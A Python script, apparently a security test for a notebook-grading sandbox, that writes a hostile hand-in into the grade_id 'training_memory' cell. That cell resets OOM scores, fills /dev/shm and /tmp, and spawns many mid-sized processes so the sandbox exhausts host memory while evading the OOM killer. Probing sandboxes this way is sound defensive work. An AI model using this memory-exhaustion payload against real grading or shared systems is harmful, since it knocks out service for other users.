"""Build the hostile ps1 hand-in: its first answer cell lowers the sandbox's OOM score back to 0 (allowed for an
ordinary user's grader, zygote.OOM_SCORE_FIRST's comment), fills the sandbox's tmpfs (/dev/shm, /tmp: memory no
process's resident set shows) and starts many small processes of 160 MiB each, also at OOM score 0, so that the
whole sandbox holds more than the host (here: the 7-GiB cgroup standing for it) has, while no single process of it
looks big to the OOM killer."""
import json, sys
nb = json.load(open("CLONE/release/ps1_memory/ps1_memory.ipynb"))
N, SZ = int(sys.argv[1]), int(sys.argv[2])
code = f'''
import os, sys, time, subprocess
def low(pid="self"):
    try:
        with open(f"/proc/{{pid}}/oom_score_adj", "w") as fh: fh.write("0")
    except OSError as e: print("adj", e)
low()
low(1); low(2)  # bwrap's init and the placeholder: the sandbox's user too
for d in ("/dev/shm", "/tmp"):
    try:
        with open(d + "/fill", "wb") as f:
            for _ in range(31): f.write(b"\\1" * (16 << 20))
    except OSError as e: print(d, e)
child = "import os,mmap,time\\nopen('/proc/self/oom_score_adj','w').write('0')\\nm=bytearray(b'\\\\1')*({SZ}<<20)\\ntime.sleep(100)"
kids = [subprocess.Popen([sys.executable, "-S", "-c", child]) for _ in range({N})]
time.sleep(40)
print("alive:", sum(k.poll() is None for k in kids))
def training_memory(*a, **k):
    raise NotImplementedError
'''
for c in nb["cells"]:
    if c["metadata"].get("nbgrader", {}).get("grade_id") == "training_memory":
        c["source"] = code
json.dump(nb, open("ps1_memory.ipynb", "w"), indent=1)
